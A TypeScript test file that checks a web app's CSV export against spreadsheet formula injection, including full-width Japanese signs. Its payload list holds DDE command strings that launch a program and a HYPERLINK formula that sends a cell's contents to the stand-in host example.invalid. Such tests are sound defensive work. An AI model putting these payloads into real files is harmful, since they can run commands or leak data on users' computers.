import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv, unneutralise } from '@/lib/csv';
import { orgResultToCsv } from '@/lib/org-check/export';
import { diagnoseOrg } from '@/lib/org-check/engine';
import { rowsToCsv } from '@/lib/matrix/rows';
import { resultToCsv } from '@/lib/self-check/export';
import { diagnose } from '@/lib/self-check/engine';
import { breakdown, breakdownToCsv } from '@/lib/team/breakdown';
import { poolOf } from '@/lib/team/pool';
import { orgCheckData, selfCheckData } from './support/data';

/** Payloads a spreadsheet would run as a formula or that hide one behind a control character. */
const PAYLOADS = [
  '=1+1', '=HYPERLINK("http://example.invalid/?x="&A1,"click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=cmd|\'/c calc\'!A1',
  // Full-width signs (Japanese Excel reads them as formulas) and spaces before a sign, which spreadsheets skip.
  '＝1+1', '＋1+1', '－2+3', '＠SUM(1+1)', ' =1+1', '　＝HYPERLINK("http://example.invalid","x")', '\u00a0+1', ' \n=1+1',
];

/** Every cell of a CSV file as a spreadsheet reads it (RFC 4180: quoted cells may hold commas, quotes, line breaks). */
function allCells(csv: string): string[] {
  const cells: string[] = [];
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/gy;
  const text = csv.replace(/^\uFEFF/, '');
  while (cell.lastIndex < text.length) {
    const m = cell.exec(text);
    if (!m) throw new Error(`not CSV at ${cell.lastIndex}: ${JSON.stringify(text.slice(cell.lastIndex, cell.lastIndex + 20))}`);
    const raw = m[1]!;
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (m[2] === '') break;
  }
  return cells;
}

/** A cell a spreadsheet would run: a formula sign, ASCII or full-width, after any spaces, or a leading tab or CR. */
const SIGNS = new Set(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
const dangerous = (cell: string) => (/^[\t\r]/.test(cell) || SIGNS.has(cell.trimStart()[0] ?? '')) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('CSV writer', () => {
  it.each(PAYLOADS)('neutralises %j so that a spreadsheet shows it as text', (payload) => {
    const cells = allCells(toCsv([['label', payload]]));
    expect(cells[1]).toBe(`'${payload}`);
    expect(dangerous(cells[1]!)).toBe(false);
  });

  it('keeps numbers, negative numbers included, as numbers; text that only looks like one is neutralised', () => {
    expect(toCsv([[-3, 0, 12.5, '-3', 'ふつうの文', '']])).toBe("\uFEFF-3,0,12.5,'-3,ふつうの文,\r\n");
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('never writes a cell a spreadsheet would run, whatever the text, and reads every text back exactly', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ maxLength: 12, unit: fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', ' ', '　', '\u00a0', '\t', '\r', "'", 'a', '1', ',', '"', '\n', 'あ', 'ー') }), { maxLength: 6 }), (texts) => {
        const cells = allCells(toCsv([texts]));
        expect(cells).toHaveLength(Math.max(texts.length, 1));
        for (const c of cells) expect(dangerous(c)).toBe(false);
        expect(cells.map(unneutralise)).toEqual(texts.length ? texts : ['']);
      }),
    );
  });

  it('is the writer behind every CSV the site saves: matrix, self-check, organisation check, team summary', () => {
    const payload = '=HYPERLINK("http://example.invalid","x")';
    expect(allCells(rowsToCsv([{ label: payload, co: 10, contribution: 20 }]))).toContain(`'${payload}`);

    const self = selfCheckData();
    const set = { instrument: self.instrumentId, version: self.instrument.version, answers: Object.fromEntries(self.instrument.items.map((i) => [i.id, 3])), choices: { age: [self.ageBands[0]!.id] } };
    const pool = poolOf(self, [{ set, extras: [PAYLOADS[0]!] }], [PAYLOADS[1]!]);
    // Department names and column titles in full-width signs, as a Japanese survey export may carry them (#21).
    const wide = poolOf(self, [{ set, extras: ['＝1+1'] }], ['　＋SUM(1+1)']);
    const files = [
      resultToCsv(self, set, diagnose(self, set)),
      breakdownToCsv(breakdown(pool, self, { kind: 'extra', column: 0 }, 1), pool.measures),
      breakdownToCsv(breakdown(wide, self, { kind: 'extra', column: 0 }, 1), wide.measures),
    ];
    expect(files[2]).toContain("'＝1+1");
    const org = orgCheckData();
    const orgSet = { instrument: org.instrumentId, version: org.instrument.version, answers: Object.fromEntries(org.instrument.items.map((i) => [i.id, 4])), choices: {} };
    files.push(orgResultToCsv(org, orgSet, diagnoseOrg(org, orgSet)));
    for (const file of files) {
      expect(file.startsWith('\uFEFF')).toBe(true);
      for (const c of allCells(file)) expect(dangerous(c)).toBe(false);
    }
  });
});
